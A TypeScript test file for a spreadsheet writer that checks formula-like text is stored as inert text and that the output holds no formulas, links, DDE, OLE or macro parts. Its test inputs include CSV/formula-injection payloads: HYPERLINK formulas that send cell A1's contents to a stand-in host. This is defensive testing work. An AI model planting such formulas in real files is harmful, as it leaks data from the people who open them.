import { beforeAll, describe, expect, it } from "vitest";
import { workbookParts } from "../testing/workbook-parts";
import type { SheetCell } from "./parts/workbook";
import { writeWorkbook } from "./write-workbook";

/** What a spreadsheet program would take for a formula or a command at the beginning of a cell, full-width forms included. */
const prefixes = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'="];
const planted = prefixes.map((sign) => `${sign}HYPERLINK("http://例.test/"&A1,"点")`);
const odd = ["_x003D_1+1", "<b>&amp;\"'</b>", " 两端有空格 ", "𠮷\u0007\ud800尾"];
const columns = 15;

const partsOf = async (rows: SheetCell[][]): Promise<ReadonlyMap<string, string>> =>
  workbookParts(
    await writeWorkbook([
      { name: "案件", notes: ["=NOW()"], head: ["=HEAD()"], widths: rows[0]?.map(() => 12) ?? [], rows },
    ]),
  );
const unescaped = (text: string) =>
  text.replace(
    /&(#x?[0-9A-Fa-f]+|\w+);/g,
    (all, word: string) =>
      ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" })[word] ??
      (word.startsWith("#") ? String.fromCodePoint(Number(word.replace("#x", "0x").replace("#", ""))) : all),
  );

let parts: ReadonlyMap<string, string>;
let cells: string[];
beforeAll(async () => {
  parts = await partsOf([
    ...planted.map((words) => Array.from({ length: columns }, () => words)),
    odd,
    [1.5, { day: "2026-02-28" }, { moment: "2026-11-29 23:59" }, null, ""],
  ]);
  cells = (parts.get("xl/worksheets/sheet1.xml") ?? "").match(/<c [^>]*?(\/>|>.*?<\/c>)/gs) ?? [];
});

describe("a workbook", () => {
  it("holds whatever is text as text in every column, however it begins, in the format that stays text when edited", () => {
    const texts = cells.slice(0, 2 + planted.length * columns + odd.length);
    expect(texts).toHaveLength(2 + planted.length * columns + odd.length);
    for (const cell of texts) expect(cell).toMatch(/ t="s"[^>]*>\s*<v>\d+<\/v>/);
    const styles = parts.get("xl/styles.xml") ?? "";
    const looks = [...(styles.match(/<cellXfs.*<\/cellXfs>/s)?.[0] ?? "").matchAll(/<xf\b([^>]*)>/g)];
    const formats = looks.map(([, look]) => {
      const id = /numFmtId="(\d+)"/.exec(look ?? "")?.[1];
      return new RegExp(`numFmtId="${id}" formatCode="([^"]*)"`).exec(styles)?.[1];
    });
    for (const cell of texts) expect(formats[Number(/ s="(\d+)"/.exec(cell)?.[1])]).toBe("@");
  });

  it("holds no formula, no link, and nothing that is fetched or run when it is opened", () => {
    const all = [...parts.values()].join("\n");
    expect(all).not.toMatch(/<f[ >/]|<hyperlink|externalLink|ddeLink|oleObject|TargetMode="External"|vbaProject/i);
    expect([...parts.keys()].filter((name) => !/\.(xml|rels)$/.test(name))).toEqual([]);
  });

  it("keeps the words as they were written; what no such file can hold is a box", () => {
    const shared = [...(parts.get("xl/sharedStrings.xml") ?? "").matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map(([, text]) =>
      unescaped(text ?? ""),
    );
    for (const words of planted) expect(shared.map((one) => one.replaceAll("\r\n", "\n"))).toContain(words);
    expect(shared).toEqual(expect.arrayContaining(["_x005F_x003D_1+1", "<b>&amp;\"'</b>", " 两端有空格 ", "𠮷□□尾"]));
  });

  it("holds numbers, days and moments as such, and nothing for what is empty", () => {
    const values = cells.slice(-3).map((cell) => [/ t="/.test(cell), Number(/<v>(.*?)<\/v>/.exec(cell)?.[1])]);
    expect(values).toEqual([
      [false, 1.5],
      [false, 46081],
      [false, expect.closeTo(46355.99931, 4)],
    ]);
  });
});
